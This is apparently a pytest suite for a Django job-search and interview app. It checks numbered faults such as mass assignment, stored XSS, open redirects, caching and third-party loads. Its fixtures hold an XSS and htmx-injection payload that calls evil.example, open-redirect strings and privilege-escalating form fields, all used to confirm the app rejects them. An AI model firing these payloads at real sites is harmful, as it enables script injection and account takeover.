"""Catalogued faults on the pages between the yes and the end of the talk, and of the settings; each named by its number."""

import re
from datetime import datetime, time
from pathlib import Path

import pytest
from django.conf import settings
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from playwright.sync_api import BrowserContext, ConsoleMessage

from halfhour import clock
from halfhour.accounts.models import User
from halfhour.choose.models import Candidate
from halfhour.contact import actions as contact
from halfhour.contact.models import Approach, Attempt
from halfhour.find.models import Organisation, Person, Source
from halfhour.interview import actions
from halfhour.interview.models import Interview
from halfhour.prepare import actions as prepare
from halfhour.prepare.models import Brief, PlanLine, ResumeChoice
from tests.conftest import MONDAY, signed_in

XSS = "<script>window.__pwned=1</script><img src=x onerror=__pwned=1><b hx-get=//evil.example hx-trigger=load>{{7*7}}\"'"
AWAY = (
    "//evil.example",
    "https://evil.example",
    "/\\evil.example",
    "javascript:alert(1)",
    "%2f%2fevil.example",
)
SCRIPTS = Path("halfhour/web/static/halfhour/js")


@pytest.fixture
def talk(approach: Approach, monday: datetime) -> Interview:
    return actions.arrange(approach, on=MONDAY.date(), at=time(15), minutes=20, place="Lantern Games")


def pages(talk: Interview) -> list[str]:
    of_talk = ("interview", "live", "sheet")
    of_approach = ("prepare:plan", "prepare:sheet", "interview:arrange")
    assert talk.approach is not None
    return [
        *(reverse(f"interview:{name}", args=[talk.pk]) for name in of_talk),
        *(reverse(name, args=[talk.approach_id]) for name in of_approach),
        *(reverse(f"contact:{name}", args=[talk.approach_id]) for name in ("approach", "call", "introductions", "letter")),
        *(reverse(name) for name in ("prepare:index", "interview:index", "interview:chat", "contact:index", "record:resumes")),
        *(reverse(name) for name in ("today", "me", "numbers", "keys")),
        reverse("prepare:brief", args=[talk.person.organisation_id]),
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "told"),
    [
        ("prepare:readiness", {}),
        ("prepare:questions", {"text": "What do you like?", "must": "on"}),
        ("prepare:resume", {"choice": "bring", "new_version": "November"}),
        ("interview:describing", {"minutes": "20", "format": "phone", "place": "", "link_or_number": "1"}),
        ("interview:before", {"confidence": "3", "expected": "3"}),
        ("prepare:brief", {"version": "0", "what_they_do": "Games"}),
        ("numbers", {"minutes": "20"}),
        ("me", {"name": "Maya", "aim": "which_work", "timezone": "UTC", "country": "US"}),
    ],
)
def test_fault_68_no_field_that_nobody_offered_is_taken(
    talk: Interview, as_maya: Client, maya: User, outsider: User, name: str, told: dict[str, str]
) -> None:
    of = {
        "prepare:brief": talk.person.organisation_id,
        "numbers": None,
        "me": None,
        "interview:describing": talk.pk,
        "interview:before": talk.pk,
    }
    thing = of.get(name, talk.approach_id)
    extra = {"owner": str(outsider.pk), "user": str(outsider.pk), "role": "admin", "is_staff": "on", "is_superuser": "on"}  # fmt: skip
    extra |= {"ended_at": "2020-01-01", "ready_at": "2020-01-01", "welcomed_at": "", "consent": "true", "school_id": "2"}  # fmt: skip
    as_maya.post(reverse(name, args=[thing] if thing else []), {**extra, **told})
    talk.refresh_from_db()
    user = User.objects.select_related("seeker").get(pk=maya.pk)
    assert (talk.owner_id, talk.ended_at, user.is_staff, user.is_superuser) == (maya.pk, None, False, False)
    assert (user.seeker.user_id, user.seeker.welcomed_at is None) == (maya.pk, False)
    for rows in (PlanLine.objects.exclude(plan__owner=maya), Brief.objects.exclude(owner=maya), ResumeChoice.objects.exclude(owner=maya)):  # fmt: skip
        assert not rows.exists()


def test_fault_69_two_windows_on_one_place_keep_both_texts(talk: Interview, as_maya: Client) -> None:
    address = reverse("prepare:brief", args=[talk.person.organisation_id])
    as_maya.post(address, {"version": "0", "what_they_do": "from the first window", "found_in": "page 1"})
    answer = as_maya.post(address, {"version": "0", "what_they_do": "from the second", "found_in": "page 2"})
    assert answer.status_code == 409
    for words in ("from the first window", "from the second", "page 1", "page 2"):
        assert words in answer.text


def test_fault_70_a_letter_typed_before_the_session_ended_is_there_afterwards(
    approach: Approach, monday: datetime, maya: User, as_maya: Client
) -> None:
    draft = contact.draft_of(approach)
    told = {"subject": draft.subject, "version": str(draft.version), "page": "a", "key": "k"}
    typed = f"{draft.body}\n\nHalf an hour of words."
    as_maya.post(reverse("contact:check", args=[approach.pk]), {**told, "body": typed})
    as_maya.session.flush()
    lost = as_maya.post(
        reverse("contact:sending", args=[approach.pk]), {**told, "body": f"{typed} And the last ones."}
    )
    assert lost.status_code == 403 and not Attempt.objects.exists()
    again = signed_in(maya).get(f"{reverse('contact:approach', args=[approach.pk])}?write=1")
    assert "Half an hour of words." in again.text


@pytest.fixture
def dangerous(talk: Interview, maya: User) -> Interview:
    """The payload in every text of these rooms."""
    Person.objects.update(name=XSS[:190], given=XSS[:90], title=XSS[:190], note=XSS)
    Organisation.objects.update(name=XSS[:190])
    Source.objects.update(name=XSS[:190], detail=XSS[:190])
    Candidate.objects.update(words=XSS[:190])
    Approach.objects.update(why_person=XSS)
    Interview.objects.update(place=XSS[:190], link_or_number=XSS[:190])
    maya.seeker.name = maya.seeker.about = maya.seeker.time_sentence = XSS[:190]
    maya.seeker.save()
    plan = talk.approach.plan  # type: ignore[union-attr]  # a talk that was arranged has both
    PlanLine.objects.filter(plan=plan).update(text=XSS[:190], because=XSS[:190])
    version = prepare.add_resume(maya, name=XSS[:190], made_on=MONDAY.date())
    prepare.choose_resume(plan.approach, choice="bring", resume=version)
    prepare.save_brief(
        Organisation.objects.get(), what_they_do=XSS, size=XSS[:190], news=XSS, interests_me=XSS, found_in=XSS
    )
    return Interview.objects.select_related("person", "approach").get(pk=talk.pk)


def test_fault_87_88_and_93_typed_text_is_never_markup_nor_an_instruction_to_htmx(
    dangerous: Interview, as_maya: Client
) -> None:
    for address in pages(dangerous):
        page = as_maya.get(address, follow=True)
        assert page.status_code == 200, address
        assert "<script>window" not in page.text and "<img src=x" not in page.text, address
        assert "<b hx-get" not in page.text and '"allowEval":false' in page.text, address


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_fault_87_and_153_nothing_runs_and_the_console_stays_silent(
    dangerous: Interview, maya_browses: BrowserContext
) -> None:
    page = maya_browses.new_page()
    said: list[str] = []

    def hears(message: ConsoleMessage) -> None:
        if message.type == "error":
            said.append(f"{page.url}: {message.text}")

    page.on("console", hears)
    page.on("pageerror", lambda error: said.append(f"{page.url}: {error}"))
    elsewhere: list[str] = []
    page.on(
        "request",
        lambda asked: "127.0.0.1" in asked.url or "localhost" in asked.url or elsewhere.append(asked.url),
    )
    for address in pages(dangerous):
        page.goto(address)
        assert page.evaluate("window.__pwned") is None, address
    assert (said, elsewhere) == ([], [])


@pytest.mark.parametrize("away", AWAY)
def test_fault_96_no_address_given_leads_away(
    talk: Interview, as_maya: Client, monday: datetime, away: str
) -> None:
    given = {"next": away, "then": away, "url": away, "to": away, "return": away}
    for address in pages(talk):
        for answer in (as_maya.get(address, given), as_maya.post(address, given)):
            went = answer.headers.get("Location", "/")
            assert went.startswith("/") and not went.startswith(("//", "/\\")), (address, went)
            assert "evil.example" not in went.split("?")[0]


def test_fault_122_no_name_stands_in_the_address_of_a_page(
    talk: Interview, as_maya: Client, maya: User
) -> None:
    for address in pages(talk):
        answer = as_maya.get(address, follow=True)
        for link in re.findall(r'(?:href|action)="(/[^"]*)"', answer.text):
            assert not re.search(r"okafor|maya|@|555", link, re.IGNORECASE), link


def test_fault_123_no_page_is_kept_by_the_browser(talk: Interview, as_maya: Client) -> None:
    for address in pages(talk):
        assert "no-store" in as_maya.get(address)["Cache-Control"], address
    as_maya.session.flush()
    for address in pages(talk):
        gone = as_maya.get(address)
        assert gone.status_code == 403 and "Okafor" not in gone.text


def test_fault_124_scripts_keep_only_marks_of_a_running_talk_and_switches() -> None:
    holding = {
        file.name: set(
            re.findall(r"localStorage\.setItem\(([\w.]+|\"[\w.]+\")", file.read_text(encoding="utf-8"))
        )
        for file in SCRIPTS.glob("*.js")
    }
    holding = {name: keys for name, keys in holding.items() if keys}
    assert set(holding) <= {"kept.js", "live.js", "notices.js", "speech.js"}
    everything = "".join(file.read_text(encoding="utf-8") for file in SCRIPTS.glob("*.js"))
    assert not re.search(r"sessionStorage|indexedDB|serviceWorker\.register|document\.cookie\s*=", everything)


def test_fault_125_no_page_asks_another_host(talk: Interview, as_maya: Client) -> None:
    for address in pages(talk):
        page = as_maya.get(address, follow=True)
        loads = re.findall(
            r'<(?:script|link|img|iframe|source|video|audio)[^>]+(?:src|href)="([^"]+)"', page.text
        )
        assert [url for url in loads if not url.startswith(("/", "data:image/svg"))] == [], address


def questions_of(client: Client, talk: Interview) -> dict[str, int]:
    """How often each page asks the database, the second time it is opened."""
    counted = {}
    with clock.at(MONDAY):
        for address in pages(talk):
            client.get(address)
            with CaptureQueriesContext(connection) as asked_for:
                assert client.get(address).status_code in {200, 302}
            counted[address] = len(asked_for)
    return counted


@pytest.mark.slow
@pytest.mark.timeout(240)
def test_fault_147_with_five_thousand_people_and_three_hundred_requests_no_page_asks_more(
    talk: Interview, as_maya: Client, maya: User, candidate: Candidate
) -> None:
    """The times are measured by the benchmarks; here: the number of questions to the database stays the same."""
    before = questions_of(as_maya, talk)
    people = Person.objects.bulk_create(
        Person(
            owner=maya,
            name=f"Person {n}",
            given="Person",
            family=str(n),
            added_at=MONDAY,
            candidate=candidate,
        )
        for n in range(5000)
    )
    asked = Approach.objects.bulk_create(
        Approach(owner=maya, person=p, candidate=candidate, channel="email", opened_at=MONDAY)
        for p in people[:300]
    )
    Attempt.objects.bulk_create(
        Attempt(
            owner=maya, approach=a, key=f"k{a.pk}", channel="email", at=MONDAY, on=MONDAY.date(), body="x"
        )
        for a in asked
    )
    after = questions_of(as_maya, talk)
    assert {page: (before[page], n) for page, n in after.items() if n > before[page]} == {}


def test_the_session_of_a_laptop_outlasts_any_letter() -> None:
    assert settings.SESSION_COOKIE_AGE >= 30 * 24 * 3600
